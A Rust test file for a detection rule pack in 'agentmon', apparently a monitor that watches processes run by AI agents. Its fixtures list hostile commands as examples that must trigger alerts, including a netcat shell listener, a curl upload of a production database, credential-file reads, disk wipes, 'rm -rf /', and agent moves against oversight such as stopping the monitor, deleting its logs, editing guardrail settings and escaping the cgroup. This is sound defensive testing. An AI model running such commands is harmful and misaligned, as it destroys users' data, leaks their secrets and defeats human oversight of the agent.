//! The pack that comes with the program: every rule loads, fires on what it is for, and not on what is near it.

use super::support::{
    Case, connect, connect_unix, create, evaluate, exec, exec_as, firewall_option, identity, leave, made, netlink, read, resolved_unlink,
    send, send_unix, signal, tcp, unlink, unlink_by_uring, write, write_device,
};
use crate::event::{Kind, PathTrust};
use crate::rules::{Action, Engine, built_in};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

pub(super) fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_owned()
}

/// Operations by the stem of the file whose rule they fire, and operations near them that do not.
fn examples() -> Vec<(&'static str, Case, Case)> {
    let nc = "/usr/bin/nc.openbsd";
    let dash = "/usr/bin/dash";
    let python = "/usr/bin/python3.11";
    vec![
        (
            "service-stop",
            exec("/usr/bin/systemctl", "systemctl --no-block --root=/ mask auditd"),
            exec("/usr/bin/systemctl", "systemctl status cron"),
        ),
        ("service-stop", exec_as(dash, "/usr/sbin/service", "/bin/sh /usr/sbin/service rsyslog stop"), exec(dash, "sh -c stop")),
        ("arguments-cut", exec("/usr/bin/env", "env X=1 rm").cut(1), exec("/usr/bin/ld.bfd", "ld -o x a.o b.o")),
        ("path-cut", read("d/d/d/secret").trusted(PathTrust::Partial), read("/d/d/d/secret")),
        ("path-cut", write("x/y").trusted(PathTrust::Partial), read("memfd:x").trusted(PathTrust::Partial)),
        ("path-cut", create("d/n").trusted(PathTrust::Partial), read("").trusted(PathTrust::Partial)),
        ("container-stop", exec("/usr/bin/docker", "docker stop --time 1 prod-db"), exec("/usr/bin/docker", "docker run --rm alpine true")),
        ("process-kill-all", exec("/usr/bin/kill", "kill -TERM -1"), exec("/usr/bin/kill", "kill -TERM 123")),
        ("process-kill-all", exec_as("/usr/bin/pgrep", "/usr/bin/pkill", "pkill -u root"), exec("/usr/bin/kill", "kill -1 123")),
        ("process-kill-by-name", exec_as("/usr/bin/pgrep", "/usr/bin/pkill", "pkill node"), exec("/usr/bin/pgrep", "pgrep node")),
        (
            "disk-format",
            exec_as("/usr/sbin/mke2fs", "/sbin/mkfs.ext4", "mkfs.ext4 -F /dev/sdb1"),
            exec("/usr/sbin/mke2fs", "mkfs.ext4 -F disk.img"),
        ),
        ("disk-format", exec("/usr/sbin/cryptsetup", "cryptsetup -q luksFormat /dev/sda x"), exec("/usr/sbin/fdisk", "fdisk -l /dev/sda")),
        (
            "disk-overwrite-tool",
            exec("/usr/bin/dd", "dd if=/dev/zero of=/dev/nvme0n1 bs=1M"),
            exec("/usr/bin/dd", "dd if=/dev/zero of=fixture.bin"),
        ),
        ("disk-overwrite", write_device("/dev/sda"), write("/dev/null")),
        ("disk-overwrite", write_device("/tmp/innocent"), write_device("/dev/loop3")),
        ("loop-device-write", write_device("/dev/loop3"), read("/dev/loop3")),
        ("permission-setuid", exec("/usr/bin/chmod", "chmod u+s /tmp/sh"), exec("/usr/bin/chmod", "chmod u+x run.sh")),
        ("permission-setuid", exec("/usr/bin/chmod", "chmod 4755 /tmp/sh"), exec("/usr/bin/chmod", "chmod 0755 run.sh")),
        ("permission-world-writable", exec("/usr/bin/chmod", "chmod -R 777 ."), exec("/usr/bin/chmod", "chmod -R 755 .")),
        (
            "permission-system-path",
            exec("/usr/bin/chown", "chown -R 1000:1000 /var/lib/app"),
            exec("/usr/bin/chown", "chown 1000 src/main.rs"),
        ),
        ("authorized-keys-write", write("/home/u/.ssh/authorized_keys"), read("/home/u/.ssh/authorized_keys")),
        ("authorized-keys-write", create("/etc/ssh/sshd_config.d/x.conf"), write("/home/u/.ssh/known_hosts")),
        ("trust-store-write", create("/usr/local/share/ca-certificates/x.crt"), create("/usr/share/keyrings/x.gpg").by("/usr/bin/dpkg")),
        (
            "git-credential-helper",
            exec("/usr/bin/git", "git config --global credential.helper !f"),
            exec("/usr/bin/git", "git config --get credential.helper"),
        ),
        ("port-open-listener", exec_as(nc, "/usr/bin/nc", "nc -lvp 4444 -e /bin/sh"), exec_as(nc, "/usr/bin/nc", "nc -z example.org 80")),
        (
            "port-open-listener",
            exec("/usr/bin/socat", "socat TCP-LISTEN:80,fork EXEC:sh"),
            exec("/usr/bin/socat", "socat TCP-LISTEN:80,bind=127.0.0.1 -"),
        ),
        ("port-open-file-server", exec(python, "python3 -m http.server 8000"), exec(python, "python3 -m http.server --bind 127.0.0.1")),
        ("port-open-tunnel", exec("/usr/local/bin/ngrok", "ngrok http 8080"), exec("/usr/bin/ssh", "ssh -v host")),
        ("port-open-tunnel", exec("/usr/bin/ssh", "ssh -NR 80:localhost:80 host"), exec("/usr/local/bin/ngrok", "ngrok version")),
        (
            "firewall-change-tool",
            exec_as("/usr/sbin/xtables-nft-multi", "/usr/sbin/iptables", "iptables -F"),
            exec_as("/usr/sbin/xtables-nft-multi", "/usr/sbin/iptables", "iptables -L -n"),
        ),
        ("firewall-change-tool", exec("/usr/sbin/nft", "nft flush ruleset"), exec("/usr/sbin/nft", "nft list ruleset")),
        (
            "firewall-change-tool",
            exec_as(python, "/usr/sbin/ufw", "/usr/bin/python3 /usr/sbin/ufw disable"),
            exec_as(python, "/usr/sbin/ufw", "/usr/bin/python3 /usr/sbin/ufw status"),
        ),
        ("firewall-change-file", create("/etc/ufw/sedXy12"), read("/etc/ufw/ufw.conf")),
        ("account-database-write", write("/etc/sudoers.d/me"), read("/etc/passwd")),
        ("system-settings-write", write("/proc/sys/kernel/randomize_va_space"), read("/proc/sys/kernel/osrelease")),
        ("system-settings-write", write("/etc/hosts"), write("/work/repo/etc/hosts")),
        (
            "system-settings-tool",
            exec("/usr/sbin/sysctl", "sysctl -w vm.overcommit_memory=1"),
            exec("/usr/sbin/sysctl", "sysctl vm.overcommit_memory"),
        ),
        ("system-settings-tool", exec("/usr/bin/mount", "mount --bind /tmp /usr/local/bin"), exec("/usr/bin/mount", "mount")),
        ("persistence-write", create("/etc/systemd/system/upd.service"), read("/etc/profile")),
        ("credential-file-read", read("/home/u/.aws/credentials"), read("/home/u/.aws/config")),
        ("credential-file-read", read("/home/u/.ssh/id_ed25519").by("/usr/bin/cat"), read("/home/u/.ssh/id_ed25519").by("/usr/bin/ssh")),
        ("credential-file-read", read("/etc/shadow"), read("/home/u/.ssh/id_rsa.pub")),
        ("credential-file-read", read("/home/u/.config/google-chrome/Default/Login Data"), read("/home/u/.gitconfig")),
        ("credential-tool", exec("/usr/bin/op", "op item get prod-root --fields password"), exec("/usr/bin/op", "op --version")),
        ("process-memory-read", read("/proc/77/environ"), read("/proc/77/status")),
        ("metadata-service-connect", connect("169.254.169.254:80"), connect("169.254.1.1:80")),
        ("metadata-service-connect", connect("[::ffff:169.254.169.254]:80"), connect("93.184.216.34:443")),
        ("metadata-service-connect", send("169.254.169.254:53"), send("1.1.1.1:53")),
        ("docker-socket", send_unix("/run/docker.sock"), send_unix("/run/systemd/notify")),
        ("port-open-listen", tcp(Kind::Listen, "0.0.0.0:8000"), tcp(Kind::Listen, "127.0.0.1:8000")),
        ("port-open-listen", tcp(Kind::Listen, "[::]:8000"), tcp(Kind::Listen, "[::1]:8000")),
        ("port-open-listen", tcp(Kind::Listen, "10.0.0.7:8000"), tcp(Kind::Bind, "10.0.0.7:8000")),
        ("port-open-privileged", tcp(Kind::Bind, "127.0.0.1:80"), tcp(Kind::Bind, "127.0.0.1:1024")),
        ("port-open-privileged", tcp(Kind::Bind, "0.0.0.0:1023"), tcp(Kind::Bind, "10.0.0.7:0")),
        ("raw-socket", made(2, 3, 1), made(2, 2, 1)),
        ("raw-socket", made(17, 2, 768), made(16, 3, 0)),
        ("raw-socket", made(10, 3, 58), made(10, 3, 58).by("/usr/bin/ping")),
        ("firewall-change-netlink", netlink(12, 0x0a02), netlink(0, 24)),
        ("firewall-change-netlink", firewall_option(64), netlink(9, 1011)),
        ("privilege-gain", identity(0, 0).child_of("/usr/bin/bash", 1000), identity(0, 0).child_of("/usr/sbin/cron", 0)),
        ("privilege-gain", identity(0, 0).was(1000), identity(1000, 1000).was(0)),
        ("privilege-tool", exec("/usr/bin/sudo", "sudo -n true"), exec("/usr/bin/sudoku", "sudoku")),
        ("setuid-root-elsewhere", exec("/tmp/x", "x").user(1000, 0), exec("/usr/bin/sudo", "sudo true").user(1000, 0)),
        ("cgroup-escape", leave(), unlink("/x")),
        ("cgroup-control-write", write("/sys/fs/cgroup/user.slice/cgroup.procs"), read("/sys/fs/cgroup/user.slice/cgroup.procs")),
        ("cgroup-control-write", write("/sys/fs/cgroup/system.slice/agentmon.service/cpu.max"), write("/work/repo/cpu.maximum")),
        ("cgroup-control-write", write("/sys/fs/cgroup/a/cgroup.type"), read("/sys/fs/cgroup/a/memory.max")),
        ("docker-socket", connect_unix("/var/run/docker.sock"), connect_unix("/run/user/1000/bus")),
        ("delegation-socket", connect_unix("/run/systemd/private"), connect_unix("/run/systemd/journal/socket")),
        ("delegation-tool", exec("/usr/bin/systemd-run", "systemd-run --user rm x"), exec("/usr/bin/systemd-analyze", "systemd-analyze")),
        (
            "delegation-tool",
            exec("/usr/bin/docker", "docker run --rm --privileged -v /:/h alpine sh"),
            exec("/usr/bin/docker", "docker run --rm -v ./src:/src alpine sh"),
        ),
        ("monitor-files", write("/var/log/agentmon/events.jsonl"), read("/var/log/agentmon/events.jsonl")),
        ("monitor-files-removed", unlink("/var/log/agentmon/events.jsonl"), unlink("/work/repo/agentmon.log")),
        (
            "monitor-stop",
            exec_as("/usr/bin/pgrep", "/usr/bin/pkill", "pkill -STOP -x agentmon"),
            exec("/usr/bin/rm", "rm -rf target/debug/agentmon"),
        ),
        ("monitor-signal", signal(9, 4000, false).at_monitor(), signal(9, 4000, false)),
        ("monitor-signal", signal(15, 1, false), signal(15, 11, false)),
        (
            "agent-guardrail-write",
            write("/home/u/.claude/settings.json"),
            write("/home/u/.claude/settings.json").by("/usr/local/bin/claude"),
        ),
        (
            "payment-tool",
            exec("/usr/bin/bitcoin-cli", "bitcoin-cli sendtoaddress bc1 1"),
            exec("/usr/bin/bitcoin-cli", "bitcoin-cli getbalance"),
        ),
        (
            "upload-tool",
            exec("/usr/bin/curl", "curl -F f=@/data/prod.db http://10.0.0.2/u"),
            exec("/usr/bin/curl", "curl -sSfL https://example.org"),
        ),
        ("upload-tool", exec("/usr/bin/scp", "scp x.tar host:/tmp/"), exec("/usr/bin/rsync", "rsync -a src/ dst/")),
        ("git-clean", exec("/usr/bin/git", "git clean -fdx"), exec("/usr/bin/git", "git clean -n")),
        ("git-directory-removed", unlink("/work/repo/.git/HEAD"), unlink("/work/repo/.git/HEAD").by("/usr/bin/git")),
        (
            "recursive-delete-root",
            exec("/usr/bin/rm", "rm -rf /home/u/Documents /home/u/Pictures"),
            exec("/usr/bin/rm", "rm -rf node_modules"),
        ),
        ("recursive-delete-root", exec("/usr/bin/rm", "rm -rf /"), exec("/usr/bin/rm", "rm -rf /work/repo/build")),
    ]
}

/// Rules of several events, which have tests of their own.
const SEQUENCES: [&str; 6] =
    ["bulk-delete", "bulk-delete-any-program", "bulk-delete-outside", "process-kill-outside", "exfil-data-then-connect", "exfil-data-sent"];

/// Stems of the files whose rules match.
fn stems(engine: &mut Engine, case: &Case) -> BTreeSet<String> {
    let stem = |file: &str| Path::new(file).file_stem().unwrap().to_string_lossy().into_owned();
    evaluate(engine, case).iter().map(|found| stem(&found.rule.file)).collect()
}

#[test]
fn every_rule_loads_without_a_word() {
    let loaded = built_in();
    let said: Vec<String> = loaded.diagnostics.iter().map(ToString::to_string).collect();
    assert_eq!(said, [""; 0], "{}", said.join("\n"));
    assert!(loaded.rules.len() >= 40);
}

#[test]
fn the_list_of_files_is_the_folder() {
    let mut stems: Vec<String> = std::fs::read_dir(repository().join("rules"))
        .unwrap()
        .map(Result::unwrap)
        .filter(|entry| entry.file_type().unwrap().is_file())
        .map(|entry| format!("rules/{}", entry.file_name().into_string().unwrap()))
        .collect();
    stems.sort();
    let listed: Vec<String> = crate::rules::pack::FILES.iter().map(|source| source.name.to_owned()).collect();
    assert_eq!(listed, stems, "agentmon/src/rules/pack.rs must list the files of rules/");
}

#[test]
fn every_rule_fires_on_its_example_and_not_on_the_near_miss() {
    let mut engine = Engine::new(built_in().rules);
    for (stem, fires, near) in examples().into_iter().chain(super::effects::examples()) {
        assert!(stems(&mut engine, &fires).contains(stem), "{stem} does not fire on {:?}", fires.event.detail);
        assert!(!stems(&mut engine, &near).contains(stem), "{stem} fires on {:?}", near.event.detail);
    }
}

#[test]
fn every_rule_has_an_example() {
    let shown: BTreeSet<&str> = examples().into_iter().chain(super::effects::examples()).map(|(stem, ..)| stem).collect();
    for source in crate::rules::pack::FILES {
        let stem = source.name.trim_start_matches("rules/").trim_end_matches(".yml");
        assert!(shown.contains(stem) || SEQUENCES.contains(&stem), "{stem} has no example");
    }
}

#[test]
fn every_rule_says_what_a_responder_needs() {
    for rule in built_in().rules.rules() {
        let name = format!("{} ({})", rule.title, rule.file);
        let class = rule.class.as_deref().unwrap_or_else(|| panic!("{name} has no class"));
        assert!(rule.description.is_some() && rule.author.is_some(), "{name}");
        assert!(!rule.falsepositives.is_empty(), "{name}");
        assert!(rule.tags.contains(&format!("pg.8g.{class}")), "{name}");
        assert!(rule.tags.iter().any(|tag| tag.starts_with("attack.t")), "{name}");
        let runbook = rule.runbook.as_deref().unwrap_or_else(|| panic!("{name} has no runbook"));
        assert!(repository().join(runbook).is_file(), "{name}: {runbook} is not there");
        assert!(runbook.ends_with(&format!("/{class}.md")), "{name}");
    }
}

#[test]
fn only_what_has_no_honest_reason_kills() {
    let kills: BTreeSet<String> =
        built_in().rules.rules().iter().filter(|rule| rule.action == Action::Kill).map(|rule| rule.title.clone()).collect();
    let expected = ["A block device is opened for writing", "A process left its agent's cgroup", "Files are removed en masse"];
    assert_eq!(kills, expected.map(str::to_owned).into());
}

/// Removes files of a directory at one per millisecond; the actions that follow, with the number of the file.
fn remove(directory: &str, files: u64) -> Vec<(u64, Action)> {
    remove_by(unlink, directory, files)
}

fn remove_by(unlink: impl Fn(&str) -> Case, directory: &str, files: u64) -> Vec<(u64, Action)> {
    let mut engine = Engine::new(built_in().rules);
    let mut actions = Vec::new();
    for number in 1..=files {
        let case = unlink(&format!("{directory}/file-{number}.txt")).by("/usr/bin/rm").at_ms(1000 + number);
        actions.extend(evaluate(&mut engine, &case).into_iter().map(|found| (number, found.rule.action)));
    }
    actions
}

#[test]
fn a_removal_through_an_io_uring_that_the_kernel_tells_too_is_counted_once() {
    let apart = |path: &str| {
        let mut request = unlink_by_uring(path);
        request.event.flags |= crate::event::flags::APART;
        request
    };
    assert_eq!(remove_by(apart, "/home/u/Documents", 400), [], "the request of a file that may not even be there");
    // Asked for through a link: counted as well, each file would be two.
    let both = |path: &str| if path.ends_with("1.txt") { resolved_unlink(path) } else { apart(&path.replace("/home/", "/soft/")) };
    assert_eq!(remove_by(both, "/home/u/Documents", 400), [], "forty files");
    assert_eq!(remove_by(resolved_unlink, "/home/u/Documents", 400), [(50, Action::Alert), (200, Action::Freeze)]);
}

#[test]
fn a_mass_deletion_through_an_io_uring_alerts_and_freezes_as_nobody_knows_what_came_of_it() {
    assert_eq!(remove_by(unlink_by_uring, "/home/u/Documents", 400), [(50, Action::Alert), (200, Action::Freeze)]);
    let either = |path: &str| if path.ends_with("1.txt") { unlink(path) } else { unlink_by_uring(path) };
    assert_eq!(remove_by(either, "/home/u/Documents", 199), [(50, Action::Alert)], "both are counted together");
    assert_eq!(remove_by(unlink_by_uring, "/work/repo/target/debug", 400), []);
}

#[test]
fn a_mass_deletion_alerts_and_then_kills() {
    assert_eq!(remove("/tmp/tmp.Xa81kQz0aB/data", 400), [(50, Action::Alert), (200, Action::Kill)]);
    assert_eq!(remove("/home/u/Documents", 199), [(50, Action::Alert)]);
}

#[test]
fn removing_build_products_is_a_normal_day() {
    for directory in [
        "/work/repo/node_modules/left-pad",
        "/work/repo/target/debug/deps",
        "/work/repo/.git/objects/aa",
        "/work/repo/build/x",
        "/home/u/.cache/pip",
        "/tmp/ccAbCdEf",
        "/tmp/pytest-of-u/pytest-0",
        "/tmp/tmpab12_xyz",
        "/work/repo/.venv/lib/python3.11",
    ] {
        assert_eq!(remove(directory, 500), [], "{directory}");
    }
}

#[test]
fn ending_many_processes_of_others_is_told_and_ending_ones_own_is_not() {
    let actions = |number: u32, in_agent, targets: u32| -> Vec<Action> {
        let mut engine = Engine::new(built_in().rules);
        let each = (0..40_u32).flat_map(|at| {
            let case = signal(number, 4000 + at % targets, in_agent).at_ms(1000 + u64::from(at));
            evaluate(&mut engine, &case)
        });
        each.map(|found| found.rule.action).collect()
    };
    for ends in [9, 15, 19] {
        assert_eq!(actions(ends, false, 40).len(), 41, "each, and once that they are many");
    }
    assert_eq!(actions(15, false, 4).len(), 40, "four processes, ten times each");
    assert_eq!(actions(15, true, 40), []);
    assert_eq!(actions(28, false, 40), [], "a window was resized");
}

#[test]
fn switching_branches_is_a_normal_day() {
    let mut engine = Engine::new(built_in().rules);
    for number in 0..500 {
        let case = unlink(&format!("/work/repo/src/{number}.c")).by("/usr/bin/git").at_ms(number);
        assert_eq!(evaluate(&mut engine, &case), []);
    }
}

#[test]
fn the_page_for_rule_authors_names_every_field_and_category() {
    let page = std::fs::read_to_string(repository().join("docs/rules.md")).unwrap();
    // The arguments of a program have one row.
    let argument = |field: &&crate::rules::Field| matches!(field, crate::rules::Field::Audit(crate::rules::AuditField::Argument(1..)));
    let fields = crate::rules::Field::ALL.iter().filter(|field| !argument(field)).map(|field| field.name());
    for name in fields.chain(crate::rules::Category::ALL.iter().map(|category| category.name())) {
        assert!(page.contains(&format!("| `{name}` | ")), "docs/rules.md lacks {name}");
    }
}
